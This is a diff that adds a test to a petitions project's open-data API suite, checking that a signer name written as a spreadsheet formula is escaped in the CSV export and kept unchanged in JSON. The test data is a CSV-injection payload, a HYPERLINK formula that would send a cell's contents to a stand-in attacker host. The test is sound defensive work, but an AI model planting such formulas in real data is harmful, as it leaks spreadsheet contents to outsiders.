@@ -77,3 +77,15 @@ def test_open_data_query_count_does_not_grow(client, resident, category, petitio
     with django_assert_max_num_queries(14):
         read(client, "/api/v3/petitions/open-data/signatures.csv")
         read(client, "/api/v3/petitions/open-data/petitions.csv")
+
+
+def test_a_signer_named_like_a_formula_is_text_in_the_csv_and_unchanged_in_json(client, resident, category,
+                                                                                petition_settings, petition_index):
+    petition = make_petition(author=resident, category=category)
+    signer = UserFactory()
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Підпис")'
+    Signature.objects.create(petition=petition, user=signer, name=name, email=signer.email)
+    rows = list(csv.DictReader(io.StringIO(read(client, "/api/v3/petitions/open-data/signatures.csv")
+                                           .lstrip("\ufeff"))))
+    assert [row["voterName"] for row in rows] == ["'" + name]
+    assert json.loads(read(client, "/api/v3/petitions/open-data/signatures.json"))[0]["voterName"] == name
